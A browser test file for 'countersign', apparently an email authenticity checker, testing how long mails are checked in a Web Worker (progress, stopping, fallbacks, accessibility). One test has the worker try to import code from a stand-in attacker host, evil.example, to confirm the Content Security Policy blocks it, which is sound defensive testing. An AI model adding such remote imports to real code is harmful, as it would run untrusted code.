// @ts-check
/** Mails that take long: checked in a thread of their own, told of, stopped, and the same answer. */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { closeAll } from './harness.mjs';
import { answered, box, choose, inside, mail, noAxe, paste, using } from './steps.mjs';

/** @typedef {import('./harness.mjs').Opened} Opened */

const FAKE = mail('play.com/fake-notice-correct-name.en.eml');
const GENUINE = mail('play.com/genuine-notice.en.eml');
const PARAGRAPH = '<p>Dear customer, your order has left us. See <a href="https://shop.example/a?id=1">the page</a>.</p>\n';
/** Links enough for about a second on a desktop. */
const LONG = `${head('Your orders')}<html><body>${PARAGRAPH.repeat(6000)}</body></html>\n`;
const LONGER = `${head('All your orders')}<html><body>${PARAGRAPH.repeat(30_000)}</body></html>\n`;

after(closeAll);

for (const [name, text] of [
  ['a mail with thousands of links', LONG],
  ['a fake one with megabytes behind it', `${FAKE}\n${'word '.repeat(400_000)}\n`],
  ['a list of links', Array.from({ length: 400 }, (_, at) => `https://shop${at}.example/`).join('\n')],
]) {
  test(`${name} gets the answer that the command line gives`, () =>
    using({}, async (opened) => {
      await watch(opened);
      await opened.page.evaluate(() => {
        document.addEventListener('countersign-result', (event) => {
          Reflect.set(globalThis, 'told', JSON.stringify(/** @type {CustomEvent} */ (event).detail));
        });
      });
      const file = written('long.eml', text);
      await choose(opened, file);
      await verdict(opened);
      const { threads, told } = await watched(opened);
      assert.equal(threads, 1);
      assert.ok(told.length > 2, told.join());
      const printed = execFileSync(String(process.env.COUNTERSIGN_CLI), ['check', '--format', 'jsonl', file], {
        encoding: 'utf8',
        maxBuffer: 1 << 30,
      });
      const report = await opened.page.evaluate(() => Reflect.get(globalThis, 'told'));
      assert.ok(printed.includes(`"report":${report}}`), 'the report is another');
      assert.equal(await inside(opened, '.verdict:focus').count(), 1);
    }));
}

for (const [locale, first, stop, stopped] of [
  ['en-GB', /is long/, 'Stop', /still in the box/],
  ['fr-FR', /est long/, 'Arrêter', /toujours dans le cadre/],
]) {
  test(`it says what it is doing, and stops when it is told to (${locale})`, () =>
    using({ locale: String(locale) }, async (opened) => {
      await watch(opened);
      await choose(opened, written('longer.eml', LONGER));
      await inside(opened, '.progress-row:visible').waitFor();
      assert.equal(await opened.page.locator('countersign-check[verdict]').count(), 0);
      assert.equal(await inside(opened, 'progress').getAttribute('max'), '100');
      const button = inside(opened, '.progress-row button');
      assert.equal(await button.innerText(), stop);
      await opened.page.waitForFunction(() => Reflect.get(globalThis, 'seen').told.length > 1);
      await button.click();
      assert.match(await inside(opened, '.doing').innerText(), /** @type {RegExp} */ (stopped));
      assert.equal(await inside(opened, '.progress-row:visible').count(), 0);
      assert.equal(await inside(opened, '.primary:focus').count(), 1);
      assert.match(await box(opened).inputValue(), /All your orders/);
      const { told, ended } = await watched(opened);
      assert.match(told[0], /** @type {RegExp} */ (first));
      assert.equal(ended, 1);
      await opened.page.waitForTimeout(500);
      assert.equal(await opened.page.locator('countersign-check[verdict]').count(), 0);
      // And it can be asked for again.
      await inside(opened, '.primary').click();
      await inside(opened, '.progress-row:visible').waitFor();
    }));
}

test('the page answers all the while', () =>
  using({}, async (opened) => {
    await watch(opened);
    await choose(opened, written('longer.eml', LONGER));
    await verdict(opened);
    const { longest } = await watched(opened);
    assert.ok(longest < 200, `${longest} ms`);
  }));

test('what comes next takes the place of what is being checked', () =>
  using({}, async (opened) => {
    await watch(opened);
    await choose(opened, written('longer.eml', LONGER));
    await inside(opened, '.progress-row:visible').waitFor();
    await choose(opened, 'tests/mails/play.com/genuine-notice.en.eml');
    await answered(opened, 'genuine', 'Genuine', /Play\.com/);
    assert.equal(await inside(opened, '.progress-row:visible').count(), 0);
    await opened.page.waitForTimeout(1000);
    await answered(opened, 'genuine', 'Genuine', /Play\.com/);
    await choose(opened, written('longer.eml', LONGER));
    await choose(opened, written('fake.eml', `${FAKE}\n${'word '.repeat(100_000)}\n`));
    await answered(opened, 'fake', 'Fake', /Play\.com/);
    assert.match(await inside(opened, '.form .note').innerText(), /fake\.eml/);
  }));

test('of several files, each is checked when it is opened', () =>
  using({}, async (opened) => {
    const files = [written('one.eml', LONG), 'tests/mails/play.com/genuine-notice.en.eml', written('two.eml', LONG)];
    await inside(opened, 'input[type=file]').setInputFiles(files);
    await verdict(opened);
    await inside(opened, '[data-file="2"]').click();
    await inside(opened, '.progress-row:visible').waitFor();
    await inside(opened, '[data-file="1"]').click();
    await answered(opened, 'genuine', 'Genuine', /Play\.com/);
    await inside(opened, '[data-file="2"]').click();
    await verdict(opened);
    assert.match(await inside(opened, '.form .note').innerText(), /two\.eml/);
  }));

test('what the person says meanwhile counts, and an answer stays until the next is there', () =>
  using({}, async (opened) => {
    await watch(opened);
    const long = `${FAKE}\n${'word '.repeat(300_000)}\n`;
    await choose(opened, written('fake.eml', long));
    await answered(opened, 'fake', 'Fake', /Play\.com/);
    const place = () => inside(opened, '.told').evaluate((told) => told.getBoundingClientRect().top + scrollY);
    const before = await place();
    await inside(opened, '.told summary').click();
    await inside(opened, '#told-name').fill('Maya Ellison');
    await inside(opened, '#told-country').focus();
    await inside(opened, '.progress-row:visible').waitFor();
    assert.equal(await opened.page.locator('countersign-check[verdict=fake]').count(), 1);
    assert.equal(await place(), before);
    await inside(opened, '.resting').waitFor({ state: 'attached' });
    assert.equal(await place(), before);
    assert.equal(await inside(opened, '#told-country:focus').count(), 1);
    assert.equal((await watched(opened)).threads, 2);
  }));

test('a pasted mail that is long is checked in the same way', () =>
  using({}, async (opened) => {
    await watch(opened);
    await paste(opened, { 'text/plain': `${GENUINE}\n${'word '.repeat(50_000)}\n` });
    await verdict(opened);
    assert.equal((await watched(opened)).threads, 1);
  }));

for (const [how, script] of [
  ['there is no Worker', () => Reflect.deleteProperty(globalThis, 'Worker')],
  [
    'the browser refuses one',
    () => Reflect.set(globalThis, 'Worker', class { constructor() { throw new DOMException('no', 'SecurityError'); } }),
  ],
  [
    'one cannot be started',
    () =>
      Reflect.set(globalThis, 'Worker', class extends EventTarget {
        postMessage() { setTimeout(() => this.dispatchEvent(new Event('error', { cancelable: true }))); }
        terminate() {}
      }),
  ],
]) {
  test(`without a thread the page checks by itself: ${how}`, () =>
    using({}, async (opened) => {
      await opened.page.evaluate(/** @type {() => void} */ (script));
      for (const name of ['a.eml', 'b.eml']) {
        await choose(opened, written(name, `${GENUINE}\n${'word '.repeat(50_000)}\n`));
        await inside(opened, '.form .note', { hasText: name }).waitFor();
        await verdict(opened);
        assert.equal(await inside(opened, '.progress-row:visible').count(), 0);
      }
    }));
}

test('a mail over which the thread breaks down is told of, and stays', () =>
  using({}, async (opened) => {
    await opened.page.evaluate(() => {
      const real = Worker.prototype.postMessage;
      // What is torn is not understood; so ends a job that its thread breaks down over.
      Worker.prototype.postMessage = function ([module, , text], moved) {
        real.call(this, [module, new Uint8Array(3), text], /** @type {any} */ (moved));
      };
    });
    await choose(opened, written('long.eml', LONG));
    await inside(opened, '.error', { hasText: 'too large for this device' }).waitFor();
    assert.match(await box(opened).inputValue(), /Your orders/);
    assert.equal(await inside(opened, '.progress-row:visible').count(), 0);
  }));

test('where a thread cannot start the core, the page checks by itself', () =>
  using({}, async (opened) => {
    await opened.page.evaluate(() => {
      const real = Worker.prototype.postMessage;
      Worker.prototype.postMessage = function ([, ...rest], moved) {
        real.call(this, [new ArrayBuffer(1), ...rest], /** @type {any} */ (moved));
      };
    });
    await choose(opened, written('long.eml', `${GENUINE}\n${'word '.repeat(50_000)}\n`));
    await verdict(opened);
  }));

test('a thread is under the policy of the page', () =>
  using({}, async (opened) => {
    await opened.page.evaluate(() => {
      Worker.prototype.terminate = () => {};
    });
    const started = opened.page.waitForEvent('worker');
    await choose(opened, written('long.eml', LONG));
    const thread = await started;
    await verdict(opened);
    const sent = await thread.evaluate(async (origin) => {
      const refused = await fetch(`${origin}/icon.svg`).then(() => 'sent', () => 'refused');
      const imported = await import('https://evil.example/a.js').then(() => 'sent', () => 'refused');
      return [refused, imported];
    }, new URL(opened.page.url()).origin);
    assert.deepEqual(sent, ['refused', 'refused']);
    // The browser complains of these two, as it should.
    const refusals = opened.complaints.splice(0).filter((said) => !/Content Security Policy|Failed to (fetch|load)|policy: /.test(said));
    assert.deepEqual(refusals, []);
  }));

for (const colorScheme of /** @type {const} */ (['light', 'dark'])) {
  for (const [width, locale] of /** @type {const} */ ([[320, 'fr-FR'], [390, 'en-GB'], [1024, 'en-GB']])) {
    test(`working, it is whole and axe finds nothing (${colorScheme}, ${width} px)`, () =>
      using({ colorScheme, locale, viewport: { width, height: 740 }, context: { reducedMotion: 'reduce', bypassCSP: true } }, async (opened) => {
        await opened.page.evaluate(() => {
          // Never done, so that there is time to look.
          Worker.prototype.postMessage = function () {
            setTimeout(() => this.dispatchEvent(new MessageEvent('message', { data: 4 })));
          };
        });
        await choose(opened, written('long.eml', LONG));
        await inside(opened, 'progress[value="48"]').waitFor();
        await noAxe(opened, 'working');
        await opened.screenshot(`working-${colorScheme}-${width}`);
        const wide = await opened.page.evaluate(() => document.documentElement.scrollWidth);
        assert.ok(wide <= width, `${wide}`);
        await inside(opened, '.progress-row button').click();
        await noAxe(opened, 'stopped');
        await opened.screenshot(`stopped-${colorScheme}-${width}`);
      }));
  }
}

/** @param {string} subject */
function head(subject) {
  return `From: Shop <news@shop.example>\nTo: you@example.com\nSubject: ${subject}\nDate: Mon, 21 Mar 2011 10:00:00 +0000\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n`;
}

/**
 * @param {string} name
 * @param {string} text
 */
function written(name, text) {
  const folder = join(process.env.COUNTERSIGN_FILES ?? tmpdir(), 'long');
  mkdirSync(folder, { recursive: true });
  const file = join(folder, name);
  writeFileSync(file, text);
  return file;
}

/** @param {Opened} opened */
async function verdict(opened) {
  await opened.page.locator('countersign-check[verdict]').waitFor();
}

/**
 * Counts threads, notes what is read out, and how long the page was deaf at most between a job's
 * first word and its answer.
 *
 * @param {Opened} opened
 */
async function watch(opened) {
  await opened.page.evaluate(() => {
    const seen = { threads: 0, ended: 0, told: /** @type {string[]} */ ([]), longest: 0 };
    Reflect.set(globalThis, 'seen', seen);
    const Real = Worker;
    Reflect.set(globalThis, 'Worker', class extends Real {
      /** @param {ConstructorParameters<typeof Real>} given */
      constructor(...given) {
        super(...given);
        seen.threads += 1;
      }

      terminate() {
        seen.ended += 1;
        super.terminate();
      }
    });
    const root = /** @type {ShadowRoot} */ (document.querySelector('countersign-check')?.shadowRoot);
    const words = /** @type {Element} */ (root.querySelector('.doing'));
    new MutationObserver(() => {
      if (words.textContent) seen.told.push(words.textContent);
    }).observe(words, { childList: true, characterData: true, subtree: true });
    let last = performance.now();
    let before = false;
    const { port1, port2 } = new MessageChannel();
    port1.addEventListener('message', () => {
      const now = performance.now();
      const working = root.querySelector('.progress-row:not([hidden])') !== null && !root.querySelector('.resting');
      if (working && before) seen.longest = Math.max(seen.longest, now - last);
      [before, last] = [working, now];
      port2.postMessage(0);
    });
    port1.start();
    port2.postMessage(0);
  });
}

/**
 * @param {Opened} opened
 * @returns {Promise<{ threads: number, ended: number, told: string[], longest: number }>}
 */
function watched(opened) {
  return opened.page.evaluate(() => Reflect.get(globalThis, 'seen'));
}
